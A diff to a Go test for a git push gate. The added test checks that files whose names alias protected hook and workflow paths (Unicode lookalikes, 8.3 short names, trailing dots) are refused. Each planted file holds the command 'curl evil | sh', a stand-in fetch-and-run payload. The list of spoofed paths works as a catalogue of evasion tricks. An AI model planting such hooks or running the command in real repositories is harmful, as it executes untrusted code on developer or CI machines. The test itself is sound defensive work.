@@ -1,8 +1,11 @@
 package gate_test
 
 import (
+	"context"
 	"fmt"
 	"testing"
+
+	"github.com/docker-bottle/docker-bottle/gitstage"
 )
 
 // plantedFiles are files the host or CI runs after a merge (review H2):
@@ -56,5 +59,23 @@ func TestDefaultProtectedPaths(t *testing.T) {
 		e.git(c, "reset", "-q", "--hard", "origin/main")
 		e.commitFile(c, p, "fine\n", "add "+p)
 		e.git(c, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/free%d", i))
+	}
+}
+
+// TestProtectedPathSpellingsRefused pushes, with the real git, new files
+// whose names a macOS or Windows checkout writes over a protected path
+// (review M1, attack 4), next to an unchanged real hook: each is refused.
+func TestProtectedPathSpellingsRefused(t *testing.T) {
+	e := newEnv(t, nil)
+	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
+	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
+	c := e.clone("work")
+	for i, p := range []string{".huſky/pre-commit", ".githookſ/pre-commit", ".gıthooks/pre-commit",
+		".hus\u200cky/pre-commit", "HUSKY~1/pre-commit", ".github/workflowſ/x.yml", ".husky./pre-commit",
+		".husky /pre-commit", "GI7EBA~1", ".GitModules"} {
+		e.git(c, "reset", "-q", "--hard", "origin/main")
+		e.commitFile(c, p, "curl evil | sh\n", "plant "+p)
+		out := e.gitFail(c, "-c", "core.quotePath=false", "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/alias%d", i))
+		wantContains(t, out, "touches protected path "+p)
 	}
 }
